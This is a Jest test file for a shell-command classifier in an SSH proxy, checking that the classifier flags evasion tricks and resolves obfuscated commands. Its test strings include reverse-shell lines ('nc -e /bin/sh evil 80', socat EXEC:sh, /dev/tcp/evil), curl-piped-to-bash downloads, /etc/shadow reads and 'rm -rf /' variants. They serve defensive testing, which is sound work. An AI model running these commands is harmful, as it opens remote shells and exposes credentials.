// biome-ignore-all lint/suspicious/noTemplateCurlyInString: they are the shell's own
/** Ways around a classifier. Each is seen for what it is, or not vouched for; none is forgotten. */
import { readFileSync } from 'node:fs';
import { expect, test } from '@jest/globals';
import { argvs, classify, destinations, files } from './support.ts';

/** Commands by the word that keeps them from being complete. */
const refused: readonly (readonly [word: string, ...texts: readonly string[]])[] = [
  [
    'command_substitution',
    'ls $(id)',
    'ls `id`',
    'ls "a$(id)b"',
    'cat <<E\n$(id)\nE',
    'X=$(id); ls',
    'case x in $(id)) ls;; esac',
  ],
  ['process_substitution', 'cat <(id)', 'tee >(sh)', 'bash <(curl http://evil)'],
  ['arithmetic', 'ls $((a[$(id)]))', 'sleep $((1+1))'],
  ['glob', 'rm *', 'rm /tmp/?', 'ls [ab]', "X='*'; ls $X", 'for f in *; do rm "$f"; done', 'ls @(a|b)'],
  ['unknown_variable', 'ls $X', 'ls "${X}"', '$X', 'ls $? $$', 'X=$X:y; ls $X', 'unset HOME; ls $HOME'],
  [
    'parameter_expansion',
    'ls ${HOME%x}',
    'ls ${#HOME}',
    'ls ${!HOME}',
    'ls ${HOME@P}',
    'ls ${HOME:-$(id)}x ${HOME//a/b}',
    'ls ${HOME:+$(id)}',
  ],
  ['brace_expansion', 'ls {a,$(id)}', "ls {a,'b'}", 'ls {1..100}', 'ls {01..10}'],
  ['tilde', 'ls ~bob', 'ls a=~/x', 'ls ~+', 'ls PATH=~:~'],
  ['locale_string', 'ls $"x"'],
  ['control_character', "ls $'\\e[1m'", "ls $'\\xff'", "ls $'\\u202e'"],
  ['deceptive_characters', 'ls\u00a0-la', 'ls \u202ea', 'ls \u200bx', 'rm \u2066/x', 'ls \u3164'],
  ['dynamic_command', '$X ls', '`echo ls`', '"$(echo rm)" x'],
  ['dynamic_script', 'sh -c "$X"', 'eval $X', 'eval "$(id)"', 'ssh h $X', 'trap "$X" EXIT'],
  ['program_path', './ls', '../ls', '/tmp/ls', '~/ls', '/bin/../tmp/ls', '/usr/bin//ls', 'lѕ', 'bin/ls'],
  [
    'unknown_command',
    'frobnicate',
    'constructor',
    'toString x',
    'sudo frobnicate',
    'sudoedit /etc/x',
    'env cd /',
    'sudo export X=1',
    "'if' x",
  ],
  [
    'unknown_option',
    'ls --frob',
    'ls --recurs',
    'sort --compress-program=id /x',
    'sort --files0-from=/x',
    'tar xf /a --to-command=id',
    'tar xf /a -I id',
    'tar cf /a /x --checkpoint-action=exec=id',
    'tar xPf /a',
    'git -c alias.x=!id x',
    'git --exec-path=/tmp log',
    'git log --output=/etc/x',
    'git diff --ext-diff',
    'curl -K /tmp/x http://a',
    'wget -e use_askpass=/tmp/x http://a',
    'nc -e /bin/sh evil 80',
    'nc -l 80',
    'ssh -oProxyCommand=id h ls',
    'ssh -F /tmp/x h ls',
    'scp -S id a h:b',
    'scp -o ProxyCommand=id a h:b',
    'rsync --rsync-path=id /a h:b',
    'grep -d recurse x /etc',
    'ss -K dst x',
    'find / -frob',
    'env -S "rm x"',
    'timeout --frob 5 ls',
    'sysctl -w a',
    'sed -i.bak/../x s/a/b/ /x',
    'runuser bob -c id',
    'printf -v x y',
    'xargs --arg-file=/x rm',
    'command -p ls',
    'exec -a ls rm x',
    'docker exec --privileged web ls',
    'bash --rcfile /tmp/x -c ls',
    'bash -x -c ls',
    'bash -O extglob -c ls',
    'set -o posix',
  ],
  [
    'unknown_operand',
    'whoami x',
    'hostname evil',
    'date 01010000',
    'test -v x',
    "[ 'a[$(id)]' -eq 0 ]",
    "test 1 -lt 'a[$(id)]'",
    "printf '%d' 'a[$(id)]'",
    "printf '%n' x",
    "exit 'a[$(id)]'",
    "wait 'a[$(id)]'",
    "umask 'a'",
    'sysctl a=1',
    'systemctl enable /tmp/x.service',
    'service ../../tmp/x start',
    "ls ''",
    'cd a b',
    'cd -',
    "trap ls 'DEBUG'",
    "curl http://a -w '%output{/etc/x}'",
    'kubectl get pods -o go-template-file=/x',
    'kill x',
  ],
  [
    'unknown_subcommand',
    'git frob',
    'docker run alpine',
    'kubectl apply -f x',
    'systemctl edit x',
    'ip netns exec x ls',
    'ip link set eth0 down',
    'docker',
  ],
  ['function', 'f() { ls; }; f', 'function ls { rm x; }', 'ls() { rm x; }; ls'],
  [
    'shell_state',
    'alias ls=rm; ls',
    '. /tmp/x',
    'source /tmp/x',
    'enable -f /tmp/x y',
    'hash -p /tmp/x ls',
    'shopt -s expand_aliases',
    'declare -x PATH=/tmp',
    'mapfile -C id x',
    'read x',
    'pushd /',
    'shift',
    'local x',
    'bind -x x',
    'complete -C id x',
    'builtin cd /',
    "unset 'a[$(id)]'",
    "trap 'cd /' INT",
    'noglob ls',
    'let x=1',
  ],
  [
    'sensitive_variable',
    'PATH=/tmp ls',
    'PATH=/tmp; ls',
    'LD_PRELOAD=/x ls',
    'IFS=x; ls',
    'env PATH=/tmp ls',
    'sudo PATH=/tmp ls',
    'export PATH=/tmp',
    'BASH_ENV=/x bash -c ls',
    'GIT_SSH_COMMAND=id git status',
    'PAGER=id git log',
    'PROMPT_COMMAND=id',
    'PS4=x ls',
    'KUBECONFIG=/x kubectl get pods',
    'http_proxy=evil curl http://a',
    'for PATH in /tmp; do ls; done',
    'path=/tmp; ls',
    'TZ=/etc/shadow date',
    'LC_ALL=ja_JP.SJIS ls',
    'HOME=/tmp; ls ~',
    'env -u PATH ls',
    'PYTHONPATH=/x ls',
    'NODE_OPTIONS=x ls',
  ],
  ['environment', 'FOO=1 ls', 'export FOO=1', 'env FOO=1 ls', 'sudo -E ls'],
  [
    'bash_only',
    '[[ -f /x ]]',
    '((x=1))',
    'a=(1 2); ls',
    'a[0]=1 ls',
    'X+=1; ls',
    'time ls',
    'coproc ls',
    'select x in a; do ls; done',
    'for ((;;)); do ls; done',
    'ls {fd}>/x',
    'ls 10>/x',
    'case x in x) ls;& esac',
    'ls 1>&3-',
  ],
  [
    'dev_tcp',
    'cat </dev/tcp/evil/80',
    'exec 3<>/dev/tcp/evil/80',
    'cat </dev/udp/evil/53',
    'cat </dev//tcp/evil/80',
    'cd /dev && cat <tcp/evil/80',
    "awk '{print}' /inet/tcp/0/evil/80",
  ],
  ['exec_redirect', 'exec >/tmp/x; ls'],
  ['loop_control', 'for i in a b; do break; done', 'break', 'while true; do (break); done'],
  [
    'cwd_unknown',
    'cd /x; cat y',
    'cd /x || true; cat y',
    'if true; then cd /x; fi; cat y',
    'while true; do cd /x; done; cat y',
    'ssh h cat x',
    'docker exec web cat x',
    'ls | cd /x; cat y',
    "find /x -execdir id ';'",
    'cd x; cd y',
  ],
  ['parent_path', 'cat ../x', 'cat /var/run/../x', 'ls >../x', 'rm -rf /tmp/../etc'],
  [
    'linked_path',
    'cat /proc/self/root/etc/shadow',
    'cat /proc/1/cwd/x',
    'cat /dev/fd/3',
    'ln -s passwd /tmp/x',
    'cat /proc/thread-self/fd/3',
  ],
  ['here_document', 'cat <<E\nnot ended'],
  [
    'code',
    'awk \'BEGIN{system("id")}\'',
    'awk \'BEGIN{"id"|getline}\'',
    'awk \'{print > "/etc/x"}\'',
    'awk \'{print|"sh"}\'',
    'awk \'BEGIN{print a,\n"b" > "/x"}\'',
    'awk \'BEGIN{ARGV[1]="/x"}\'',
    'awk -f /tmp/x',
    'awk \'@load "x"\'',
    "awk '/[/]\"|id/{print}'",
    'awk \'{x=1/2; y="/|"}\'',
    "sed 's/a/b/e' /x",
    "sed '1e id' /x",
    "sed 'w /etc/x' /x",
    "sed 's/a/b/w /etc/x' /x",
    "sed '$r /etc/shadow' /x",
    'sed -f /tmp/x /y',
    "sed 's/[/]/x/w f' /x",
    "sed 's/[]/]w x/a/' /x",
    "sed 's/a/b/;e' /x",
    "sed '/x/{p;w f\n}' /x",
    'jq \'import "x" as $x; .\'',
    'jq -n env',
    'jq -f /tmp/x',
    "rsync -e 'sh -c id' /a h:b",
    "strace -o '|id' ls",
    "strace -fo'|id' ls",
    "psql -c 'select 1'",
    'redis-cli GET x',
    'kubectl delete -f http://evil',
  ],
  [
    'interpreter',
    'python3 -c 1',
    'perl -e 1',
    'node -e 1',
    'ruby -e 1',
    'php -r 1',
    'lua -e 1',
    'sudo python3 /x',
    'gdb -p 1',
  ],
  [
    'runs_code',
    'make',
    'npm run x',
    'pip install x',
    'apt-get install x',
    'git clone https://evil/x',
    'git clone ext::sh',
    'git pull',
    'git commit -m x',
    'mount /x /y',
    'insmod /x',
    'socat TCP:evil:80 EXEC:sh',
    'openssl s_client -connect evil:443',
    'useradd x',
    'docker-compose up',
  ],
  ['escapes_to_shell', 'vim /x', 'less /x', 'man ls', 'more /x', 'top'],
  ['persists', 'crontab -e', 'at now', 'tmux new id', 'screen -dm id'],
  [
    'shell_from_stdin',
    'ls | sh',
    'bash',
    'sh < /tmp/x',
    'curl http://a | sudo bash',
    'sh -s <<A <<B\nls\nA\nls\nB',
    '{ bash; } <<A\nls\nA',
  ],
  ['script_file', 'sh /tmp/x', 'bash x.sh', 'sudo sh /tmp/x', 'bash -e /tmp/x'],
  ['login_shell', 'bash -lc ls', 'bash -ic ls', 'su - bob -c id', 'sudo -i', 'sudo -i ls'],
  ['startup_files', 'zsh -c ls'],
  ['interactive_shell', 'sudo -s', 'su', 'ssh h', 'ssh -vp 22 h', 'doas'],
  ['interactive', 'sftp h', 'telnet h', 'nslookup'],
  [
    'dynamic_arguments',
    'ls | xargs rm',
    "xargs -I{} sh -c '{}'",
    "find /x -exec rm {} ';'",
    "find /x -exec sh -c '{}' \\;",
    'tar cf /a -T /list',
    'parallel rm',
    'rsync --files-from=/x /a /b',
  ],
  ['credentials', 'ssh-add -L', 'ssh-keygen -y -f /x', 'pass show x'],
  ['dynamic_word', 'ls $(id)', 'X= ; ls >$X', 'ls >{a,b}'],
  ['other_root', 'chroot /x ls', 'nsenter -t 1 -m ls', 'unshare -r ls'],
  [
    'destination',
    'curl file:///etc/shadow',
    'curl http://a@b@c/',
    "curl 'http://{a,b}/'",
    "curl 'http://good\\@evil/'",
    'curl ftp.x.com',
    'ssh 0x7f.1 ls',
    'ssh 2130706433 ls',
    'curl http://127.1/',
    'curl http://0177.0.0.1/',
    'ping 010.0.0.1',
    'curl http://evil.com:99999/',
    'curl gopher://evil/',
    'tar cf evil:/x /etc',
    'rsync /a rsync://evil/x',
    'rsync /a evil::x',
    'aws s3 ls',
    'gcloud x',
    "scp -O 'h:$(id)' /x",
    "scp 'h:a b' /x",
    'nc evil http',
    'docker -H unix:///tmp/x ps',
    'dig @010.1 x',
  ],
  ['syntax', "sh -c 'if'", "sh -c ''"],
  [
    'too_much',
    'eval '.repeat(20).concat('ls'),
    'X=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa;'.concat('X=$X$X$X;'.repeat(12), 'ls $X'),
  ],
];

const cases = refused.flatMap(([word, ...texts]) => texts.map((text): [string, string] => [word, text]));

test('README.md explains every word, and each has its evasions here', () => {
  const readme = readFileSync(new URL('../../../../../proxy/protocols/ssh/shell/README.md', import.meta.url), 'utf8');
  const [, table = ''] = /## Words of `incomplete`\n([\s\S]*?)\n## /.exec(readme) ?? [];
  const explained = table
    .split('\n')
    .flatMap((line) => [...(line.split('|')[1] ?? '').matchAll(/`(\w+)`/g)].map(([, word]) => word));
  expect(explained.toSorted()).toEqual(refused.map(([word]) => word).toSorted());
});

test('there are well over two hundred of them', () => {
  expect(cases.length).toBeGreaterThan(300);
});

test.each(cases)('%s: %s', (word, text) => {
  const result = classify(text);
  expect(result.incomplete).toContain(word);
  expect(result.canonical).toBeUndefined();
});

test.each([
  ['"r"m -rf /', [['rm', '-rf', '/']]],
  ['\\rm x', [['rm', 'x']]],
  ["$'\\162m' x", [['rm', 'x']]],
  ['X=rm; $X x', [['true'], ['rm', 'x']]],
  ["X='rm -rf /'; $X", [['true'], ['rm', '-rf', '/']]],
  ['eval "r""m x"', [['rm', 'x']]],
  ['r\\\nm x', [['rm', 'x']]],
  ['{rm,-rf,/}', [['rm', '-rf', '/']]],
  ["echo $'\\'; sudo su #'", [['echo', "'; sudo su #"]]],
  ['sh -c \'sh -c "sh -c \\"rm x\\""\'', [['rm', 'x']]],
  ['ls & rm x & wait', [['ls'], ['rm', 'x'], ['wait']]],
  ['ls || rm x', [['ls'], ['rm', 'x']]],
  ['while rm x; do ls; done', [['rm', 'x'], ['ls']]],
  [
    'for c in rm ls; do $c x; done',
    [
      ['rm', 'x'],
      ['ls', 'x'],
    ],
  ],
  ['case x in y) rm x;; esac', [['rm', 'x']]],
  ["trap 'rm /x' EXIT", [['rm', '/x']]],
  ["bash <<'E'\nrm x\nE", [['rm', 'x']]],
  ['sudo -u bob nice -n 5 timeout 3 rm x', [['rm', 'x']]],
  ['busybox rm x', [['rm', 'x']]],
  ["watch 'ls; rm x'", [['ls'], ['rm', 'x']]],
  [
    "find /a -exec rm x ';'",
    [
      ['rm', 'x'],
      ['find', '/a', '-exec', 'rm', 'x', ';'],
    ],
  ],
  ['ssh h "id; rm /x"', [['id'], ['rm', '/x']]],
  ['docker exec web rm /x', [['rm', '/x']]],
  ['kubectl exec -n a p -- rm /x', [['rm', '/x']]],
  ['> /etc/passwd', [['true']]],
])('%s is seen for what it is', (text, expected) => {
  expect(classify(text).incomplete).toEqual([]);
  expect(argvs(text)).toEqual(expected);
});

test('commands inside what is incomplete are still told', () => {
  expect(argvs('ls $(rm a) "`rm b`" <(rm c) >&$(rm d)')).toEqual([
    ['rm', 'a'],
    ['rm', 'b'],
    ['rm', 'c'],
    ['rm', 'd'],
    ['ls', '$(rm a)', '"`rm b`"', '<(rm c)'],
  ]);
  expect(argvs('f() { rm a; }; [[ -n $(rm b) ]]; a=($(rm c))').map(([, operand]) => operand)).toEqual(
    expect.arrayContaining(['a', 'b', 'c']),
  );
});

test('a redirection is seen whatever it stands at', () => {
  for (const text of [
    'ls >/etc/x',
    '>/etc/x',
    '{ ls; } >/etc/x',
    '(ls) >/etc/x',
    'X=1 >/etc/x',
    '{ X=1; } >/etc/x',
    'case x in y) ;; esac >/etc/x',
    'for i in; do ls; done >/etc/x',
    'if true; then ls; fi >/etc/x',
    'while false; do ls; done >/etc/x',
    'sudo ls >/etc/x',
    "sh -c 'ls >/etc/x'",
    "sh -c 'ls' >/etc/x",
    'ls 2>/etc/x',
    'ls &>/etc/x',
    'ls >>/etc/x',
    'ls <>/etc/x',
    'ls >|/etc/x',
    'cd /etc && ls >x',
  ]) {
    expect({ text, files: files(text) }).toEqual({ text, files: expect.arrayContaining(['write /etc/x']) });
  }
});

test('next hops are told', () => {
  expect(destinations('ssh -p 222 Bob@DB1.example. ls')).toEqual(['ssh db1.example:222']);
  expect(destinations('ssh -J jump h ls /')).toEqual(['ssh jump:22', 'ssh h:22']);
  expect(destinations('curl -L https://a.example/x')).toEqual(['curl a.example:443', 'curl ?']);
  expect(destinations("curl 'http://[::ffff:10.0.0.1]:8080/'")).toEqual(['curl 10.0.0.1:8080']);
  expect(destinations('curl -x http://proxy:3128 a/b')).toEqual(['curl proxy:3128', 'curl a:80']);
  expect(destinations('wget http://u:p@a:81/')).toEqual(['wget a:81', 'wget ?']);
  expect(destinations('nc -w 3 -z h 5432')).toEqual(['nc h:5432']);
  expect(destinations('scp /a u@h:b')).toEqual(['scp h:22']);
  expect(destinations('rsync -a -e ssh /a/ h:/b')).toEqual(['rsync h:22']);
  expect(destinations('cat </dev/tcp/H/80')).toEqual(['/dev/tcp h:80']);
  expect(destinations('psql -h db1 -p 6432 -c x')).toEqual(['psql db1:6432']);
  expect(destinations('psql postgres://u:p@db2/x')).toEqual(['psql db2:5432']);
  expect(destinations('mysql -h db1')).toEqual(['mysql db1:3306']);
  expect(destinations('redis-cli -h r -p 1 PING')).toEqual(['redis-cli r:1']);
  expect(destinations('kubectl -s https://k:6443 get pods')).toEqual(['kubectl k:6443']);
  expect(destinations('kubectl get pods')).toEqual(['kubectl ?']);
  expect(destinations('docker -H tcp://d:2375 ps')).toEqual(['docker d:2375']);
  expect(destinations('git clone git@h.example:x/y.git')).toEqual(['git h.example:22']);
  expect(destinations('git push origin')).toEqual(['git ?']);
  expect(destinations('dig secret.evil.example')).toEqual(['dig secret.evil.example:53']);
  expect(destinations('ping -c 1 h')).toEqual(['ping h:0']);
  expect(destinations('openssl s_client -connect h:443')).toEqual(['openssl h:443']);
  expect(destinations('socat - TCP:h:80')).toEqual(['socat h:80']);
  expect(destinations('ssh $H ls')).toEqual(['ssh ?']);
});
